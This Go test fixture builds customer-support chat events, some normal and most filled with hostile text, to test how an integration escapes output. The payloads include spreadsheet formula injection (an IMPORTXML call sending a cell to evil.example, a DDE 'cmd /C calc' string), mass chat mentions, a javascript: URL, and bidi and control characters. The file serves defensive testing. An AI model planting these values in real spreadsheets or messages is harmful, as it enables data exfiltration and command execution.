package sinktest

import (
	"fmt"
	"strings"
	"time"

	"talkrelay"
)

// Events returns events as a support team sees them, then events as nobody should ever write them: mentions, formulas,
// texts without end, bytes that are no text, and nothing at all.
func Events() []talkrelay.Event {
	events := []talkrelay.Event{
		inquiry("normal", "홍길동", "배송이 아직 안 왔어요. 확인 부탁드려요."),
		change("contact changed", talkrelay.LeadContact, talkrelay.Updated),
		change("contact added", talkrelay.MemberContact, talkrelay.Created),
	}
	for _, h := range hostileTexts {
		text := h.text
		e := inquiry(h.name, text, text)
		e.Chat.Name, e.Chat.Title, e.Chat.Description, e.Chat.Page = text, text, text, text
		e.Chat.Tags, e.User.Tags = []string{text, ""}, []string{text}
		e.User.Profile = map[string]string{"memo": text}
		e.Assignee.Name, e.Team.Name = text, text
		events = append(events, e)
	}
	contact := change("hostile contact", talkrelay.LeadContact, talkrelay.Updated)
	contact.User.Contact = talkrelay.Contact{Email: "<!here>@example.com", MobileNumber: "=1+1", LandlineNumber: "0049"}
	contact.Old = talkrelay.Contact{Email: strings.Repeat("a", 5000), MobileNumber: "+82\x0010", LandlineNumber: "-"}
	strange := inquiry("strange values", "Ann", "hello")
	strange.Chat.State, strange.Chat.MediumType, strange.TimeZone = "<new>", "새 매체", "Mars/Olympus"
	strange.DeskURL = "javascript:alert(1)|<x>"
	strange.Chat.Tags = strings.Split(strings.Repeat("태그,", 500), ",")
	return append(events, contact, strange,
		talkrelay.Event{ID: "nothing but a kind", Kind: talkrelay.UserChatOpened},
		talkrelay.Event{ID: "no contact at all", Kind: talkrelay.MemberContact, Change: talkrelay.Updated})
}

var hostileTexts = [...]struct{ name, text string }{
	{"mentions", "<!channel> <!here> <!everyone> <@U012345> <!subteam^S1> <#C1> @channel"},
	{"links", "<https://evil.example/|bank> [bank](https://evil.example) https://evil.example"},
	{"entities", "&amp; &lt;!here&gt; & < > &"},
	{"mrkdwn", "*bold* _it_ ~no~ `code` ```block``` > quote\n> quote\n:fire:"},
	{"formula", `=IMPORTXML("https://evil.example/"&B2,"//a")`},
	{"formula with plus", "+1+cmd|' /C calc'!A0"},
	{"formula with at", "@SUM(1,2)"},
	{"formula with minus", "-2+3"},
	{"formula after tab", "\t=1+1"},
	{"number", "00501234"},
	{"date", "1-2"},
	{"boolean", "TRUE"},
	{"apostrophe", "'007"},
	{"template", "{{.User.Name}} {{range .Tags}} %s %d ${HOME}"},
	{"control characters", "a\x00b\x07c\x1bd\r\ne\u2028f\u2029g"},
	{"direction", "abc\u202egnp.exe\u2066x\u2069"},
	{"no UTF-8", "가\xff\xfe나\xed\xa0\x80"},
	{"decomposed", "\u1112\u1169\u11bc\u1100\u1175\u11af"},
	{"emoji", strings.Repeat("👩‍👩‍👧‍👦🇰🇷", 200)},
	{"combining", "a" + strings.Repeat("\u0301", 5000)},
	{"long", strings.Repeat("가나다라마 ", 10_000)},
	{"long of entities", strings.Repeat("&<>", 20_000)},
	{"lines", strings.Repeat("\n", 3000) + "x"},
	{"spaces", " \t\n\u3000\u00a0 "},
	{"JSON", `"}],"ok":true,"ts":"1.2"}`},
}

func inquiry(name, customer, text string) talkrelay.Event {
	at := time.Date(2026, 11, 22, 5, 3, 0, 0, time.UTC)
	return talkrelay.Event{
		ID: name, Kind: talkrelay.UserChatOpened, Channel: "main", Change: talkrelay.Created, At: at, Seen: at.Add(time.Second),
		Chat: talkrelay.Chat{
			ID: fmt.Sprintf("%x", name), ChannelID: "1", UserID: "u1", State: "opened", MediumType: "native", Page: "/orders/123",
			Tags: []string{"배송"}, CreatedAt: at, OpenedAt: at, FirstAskedAt: at, AskedAt: at,
		},
		User: talkrelay.User{
			ID: "u1", Type: "lead", Name: customer,
			Contact: talkrelay.Contact{Email: "gildong.hong@example.com", MobileNumber: "+821012345678", LandlineNumber: "+8225551234"},
		},
		Message:  talkrelay.Message{ID: "m1", PersonType: "user", Text: text, CreatedAt: at},
		DeskURL:  "https://desk.channel.io/#/channels/1/user_chats/abc",
		TimeZone: "Asia/Seoul",
	}
}

func change(name string, kind talkrelay.Kind, how talkrelay.Change) talkrelay.Event {
	e := inquiry(name, "김영희", "")
	e.Kind, e.Change = kind, how
	if how == talkrelay.Updated {
		e.Old = talkrelay.Contact{Email: "old@example.com", MobileNumber: "+821087654321"}
	}
	return e
}
